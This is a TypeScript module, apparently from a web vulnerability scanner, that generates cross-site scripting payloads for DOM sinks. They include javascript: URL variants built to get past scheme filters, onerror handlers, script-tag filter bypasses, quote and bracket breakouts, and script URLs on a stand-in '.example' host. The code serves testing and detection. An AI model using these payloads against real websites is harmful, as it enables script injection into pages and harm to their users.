import type { SinkUse } from '#scanner/check-api';
import { breakoutsFrom } from '../injection/breakouts.ts';
import { matches } from './matches.ts';
import { reflectionContexts } from '../injection/reflection-contexts.ts';

const markup = new Set([
  'innerHTML',
  'outerHTML',
  'insertAdjacentHTML',
  'setHTMLUnsafe',
  'parseHTMLUnsafe',
  'document.write',
  'document.writeln',
  'createContextualFragment',
  'parseFromString',
  'execCommand',
  'srcdoc',
]);
const script = new Set(['eval', 'Function', 'setTimeout', 'setInterval', 'script text', 'event handler']);
/** Types of files that a page makes of text: as documents and as scripts they run in its origin. */
const markupType = /\b(?:html|xml)\b/i;
const scriptType = /script/i;
/** What a page requests, to make markup or script of the response. */
const requests = new Set(['fetch', 'XMLHttpRequest']);
const maxPayloads = 7;
/** Sinks that neither run nor navigate by themselves. */
const inert = new Set(['selector', 'meta content']);

/** True for a sink that runs nothing itself. */
export function isRequest(sink: string): boolean {
  return requests.has(sink);
}

/** True for a sink that makes elements. */
export function isMarkup(sink: string): boolean {
  return markup.has(sink);
}

/** Values that make the sink run `code`, by the text that it received with `mark`; the likeliest first. */
export function payloadsFor({ sink, value, element }: SinkUse, mark: string, code: string): readonly string[] {
  if (inert.has(sink) || element === 'link') return [];
  if (sink === 'parseFromString') return [...markupPayloads(value, mark, code), elementOfXhtml(code)];
  if (markup.has(sink) || (sink === 'Blob' && markupType.test(element))) return markupPayloads(value, mark, code);
  if (sink === 'Blob') return scriptType.test(element) ? scriptPayloads(value, mark, code, false) : [];
  if (script.has(sink)) return scriptPayloads(value, mark, code, sink === 'Function');
  if (sink === 'Worker') return workersThatReply(value, mark, code);
  if (sink === 'WebSocket') return urlsOfServer(value, mark, code);
  if (isRequest(sink) || sink === 'importScripts' || element === 'script' || element === 'base')
    return urlsOfScript(value, mark, code);
  const before = (value.toLowerCase().split(mark, 1)[0] ?? '').trim();
  if (before.startsWith('javascript:')) return scriptPayloads(value.trim().slice(11), mark, code, false);
  // A host of a URL.
  if (/^https?:\/\/[^/]{0,200}$/.test(before)) return [];
  // A URL that the browser has resolved already still tells whether the value was all of it.
  if (sink === 'location' ? /[?#]/.test(before) : before !== '') return [];
  return urlsOfCode(code);
}

/** As written, with what many pages look for in a URL, and past filters of the scheme as it is usually written. */
function urlsOfCode(code: string): readonly string[] {
  return [
    `javascript:${code}(1)`,
    `javascript:${code}(1)//`,
    `javascript:${code}(1)//http://https://x`,
    `JaVaScRiPt:${code}(1)`,
    `java\tscript:${code}(1)`,
    `javajavascript:script:${code}(1)`,
    `\u0001javascript:${code}(1)`,
    `javascript://x/%0A${code}(1)`,
  ];
}

/** Runs where a document of XML is adopted, too. */
function elementOfXhtml(code: string): string {
  return `<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${code}(1)"/>`;
}

function markupPayloads(value: string, mark: string, code: string): readonly string[] {
  if (value.includes(mark) || !value.includes(mark.toUpperCase()))
    return [...breakouts(value, mark, code), ...withoutEncoded(value, mark, code), ...pastFilters(value, mark, code)];
  // Names of script have small letters; numbers of characters stay as they are.
  return breakouts(value.replaceAll(mark.toUpperCase(), mark), mark, code).map((payload) =>
    payload.replaceAll(
      code,
      code.replaceAll(/./g, (letter) => `&#${letter.codePointAt(0)};`),
    ),
  );
}

function scriptPayloads(text: string, mark: string, code: string, isTemplate: boolean): readonly string[] {
  return [
    ...breakouts(`<script>${text}</script>`, mark, code).filter(isNoMarkup),
    ...outOfStructure(text, mark, code),
    `${code}(1)`,
    // Other text may follow.
    `${code}(1)-`,
    // Of templates and of expressions that are compiled to a function.
    ...(isTemplate ? [`<%=${code}(1)%>`, `constructor.constructor('${code}(1)')()`] : []),
  ];
}

/** Where `javascript:` URLs run. */
const followsUrls = /^(?:location|window\.open|href|action|formaction)$|^src\b/;

/** Values for a sink that takes URLs only: those of script are URLs, too. */
export function scriptUrlsFor({ sink, value }: SinkUse, mark: string, code: string): readonly string[] {
  const isWholeUrl = value.toLowerCase().startsWith(`https://${mark}`);
  return isWholeUrl && followsUrls.test(sink) ? [`javascript:${code}(1)`, `javascript:${code}(1)//https://x`] : [];
}

const closing: Readonly<Record<string, string>> = { '(': ')', '[': ']', '{': '}' };

/** True for a value in a text in single quotes, which browsers encode in the query of a URL and nowhere else. */
export function isInSingleQuotes({ sink, value }: SinkUse, mark: string): boolean {
  return script.has(sink) && structureOf(value.slice(0, Math.max(0, value.toLowerCase().indexOf(mark)))).quote === "'";
}

/** Leaves a text in quotes with all brackets that are open before it, also where quotes get a backslash. */
function outOfStructure(text: string, mark: string, code: string): string[] {
  const { quote, open } = structureOf(text.slice(0, Math.max(0, text.toLowerCase().indexOf(mark))));
  if (quote === '' || open.length === 0 || open.length > 20) return [];
  return ['\\', ''].map((escape) => `${escape}${quote}-${code}(1)${open.toReversed().join('')}//`);
}

/** The quote that is open at the end of a text of script, and what closes the brackets that are open there. */
function structureOf(text: string): { readonly quote: string; readonly open: readonly string[] } {
  const open: string[] = [];
  let quote = '';
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at] ?? '';
    if (quote !== '') {
      if (sign === '\\') at += 1;
      else if (sign === quote) quote = '';
    } else if (`"'\``.includes(sign)) quote = sign;
    else if (sign in closing) open.push(closing[sign] ?? '');
    else if (sign === open.at(-1)) open.pop();
  }
  return { quote, open };
}

/** A worker of a `data:` URL has an origin of its own; what it posts is of this page again. */
function workersThatReply(value: string, mark: string, code: string): readonly string[] {
  return value.startsWith(mark) ? [`data:text/javascript,postMessage("<img src=x onerror=${code}(1)>")//`] : [];
}

/** URLs of a WebSocket whose server is the attacker's. */
function urlsOfServer(value: string, mark: string, code: string): readonly string[] {
  const before = value.toLowerCase().split(mark, 1)[0] ?? '';
  if (before === '') return [`wss://${code}.example/`];
  if (/^wss?:\/\/$/.test(before)) return [`${code}.example/`];
  return /^wss?:\/\/[^/?#]*$/.test(before) ? [`.${code}.example/`, `@${code}.example/`] : [];
}

/** URLs of a script that runs `code`: of its own, on another site, and where a host or a path precedes the mark. */
function urlsOfScript(value: string, mark: string, code: string): readonly string[] {
  const host = `${code}.example`;
  const before = value.toLowerCase().split(mark, 1)[0] ?? '';
  if (before === '') return [`data:text/javascript,${code}(1)//`, `//${host}/`];
  if (/^(?:https?:)?\/\/$/.test(before)) return [`${host}/`];
  if (/^(?:https?:)?\/\/[^/?#]*$/.test(before)) return [`.${host}/`, `@${host}/`];
  // The name of a function with which the response begins, in this parameter or in one that the page adds.
  if (/[?&][^#]{0,200}=$/.test(before)) {
    const added = matches(value.slice(before.length + mark.length), /[?&]([\w-]{1,40})=/g).slice(0, 2);
    const names = ['', ...added.map((name) => `&${name}=`)];
    const called = names.map((name) => `${name}${code}(1)//`);
    return [...called, `${code}(1);`, ...names.map((name) => `${name}${functionPath(code)}`)];
  }
  return before === '/' ? [`/${host}/`] : [];
}

/** For responses that take the path of a function and no other signs. */
function functionPath(code: string): string {
  return `self.${code}`;
}

/** True for a payload that only chooses which function of the page is called. */
export function choosesFunction(payload: string, code: string): boolean {
  return payload.endsWith(functionPath(code));
}

function breakouts(text: string, mark: string, code: string): string[] {
  const payloads = reflectionContexts(text, mark).flatMap((context) =>
    breakoutsFrom(context, code, true).map(({ payload }) => payload),
  );
  return [...new Set(payloads)].slice(0, maxPayloads);
}

/** Past filters of names of elements, of handlers and schemes, of brackets, and of what is decoded once more behind them. */
function pastFilters(text: string, mark: string, code: string): readonly string[] {
  const contexts = reflectionContexts(text, mark);
  const [likeliest] = contexts.flatMap((context) => breakoutsFrom(context, code, true).slice(0, 1));
  if (likeliest === undefined) return [];
  const withoutCall = likeliest.payload.replaceAll(`${code}(1)`, code);
  if (!contexts.some(({ kind }) => kind === 'text')) return [withoutCall];
  return [
    `<scr<script>ipt>${code}(1)</scr</script>ipt>`,
    `<iframe srcdoc="&#60;script&#62;${code}(1)&#60;/script&#62;"></iframe><iframe src="java&#115;cript&colon;${code}(1)"></iframe>`,
    withoutCall,
    encodeURIComponent(encodeURIComponent(likeliest.payload)),
  ];
}

/** For values in single quotes of URLs that the page does not decode: browsers encode spaces, double quotes and brackets there. */
function withoutEncoded(text: string, mark: string, code: string): string[] {
  const isInSingleQuotes = reflectionContexts(text, mark).some(
    (context) => context.kind === 'attribute' && context.quote === "'",
  );
  return isInSingleQuotes ? [`'/tabindex='1'/autofocus/onfocus='${code}(1)`] : [];
}

/** The text is no part of a document: its script element is ours. */
function isNoMarkup(payload: string): boolean {
  return !payload.includes('</script>');
}

/** Sinks that no script can watch: the call of `import()`, and `javascript:` URLs that a location is assigned. */
export type UnobservedSink = 'import()' | 'javascript: URL' | 'location of a frame';

const unobservedSinks: readonly (readonly [UnobservedSink, RegExp])[] = [
  ['import()', /\bimport\s{0,5}\(\s{0,5}[^"'\s)]/],
  ['javascript: URL', /location(?:\.href)?\s{0,5}=\s{0,5}["'`]javascript:/],
  ['location of a frame', /\b(?:contentWindow|frames\[[^\]\n]{1,40}\])\.location(?:\.href)?\s{0,5}=[^=]/],
];

export function unobservedSinksIn(scripts: readonly string[]): readonly UnobservedSink[] {
  return unobservedSinks.flatMap(([sink, pattern]) => (scripts.some((text) => pattern.test(text)) ? [sink] : []));
}

/** Values for sinks of which nothing tells what they received. */
export function blindPayloads(sink: UnobservedSink, code: string): readonly string[] {
  if (sink === 'location of a frame') return [`javascript:${code}(1)`];
  if (sink === 'import()') return [`data:text/javascript,${code}(1)//`, `//${code}.example/`];
  return [`'-${code}(1)-'`, `"-${code}(1)-"`, `${code}(1)`];
}
